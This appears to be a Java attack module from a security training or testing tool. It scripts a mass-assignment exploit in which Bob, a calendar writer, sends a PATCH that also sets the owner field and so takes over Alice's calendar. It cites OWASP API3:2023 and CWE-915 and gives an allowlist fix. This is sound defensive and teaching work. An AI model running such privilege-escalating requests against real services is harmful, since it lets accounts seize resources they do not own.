package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Names a property in a request body that callers may not set. */
@AutoService(Attack.class)
public final class MassAssignment implements Attack {
  private static final String CALENDAR = "/calendars/alice-work";
  private static final String WRITER = "bob";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "mass-assignment",
        "One property too many",
        AttackGroup.AUTHORIZATION,
        "Bob, who may write in Alice's calendar, changes its name and in the same request its owner.",
        "An account that may change the calendar.",
        "The server stores whatever properties the body names.",
        "accept-any-property",
        List.of("OWASP API3:2023", "CWE-915"),
        "Keep a list of the properties that callers may set, one for each call, and refuse a body that names any other.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    Draft share =
        target.with(
            "PUT", CALENDAR + "/sharing/" + WRITER, "application/json", "{\"access\":\"writer\"}");
    target.send("Alice", "Alice lets Bob write in her calendar.", target.as(Loot.VICTIM, share));
    Draft patch =
        target.with(
            "PATCH",
            CALENDAR,
            "application/json",
            "{\"name\":\"Work\",\"owner\":\"" + WRITER + "\"}");
    target.send(
        "Bob gives the calendar a name, and himself the calendar.", target.as(WRITER, patch));
    Hop after =
        target.send("Bob looks whose calendar it is now.", target.as(WRITER, target.get(CALENDAR)));
    boolean his = after.status() == 200 && Events.body(after).path("owner").asText().equals(WRITER);
    return target.end(his, "Alice's calendar now belongs to Bob.");
  }
}
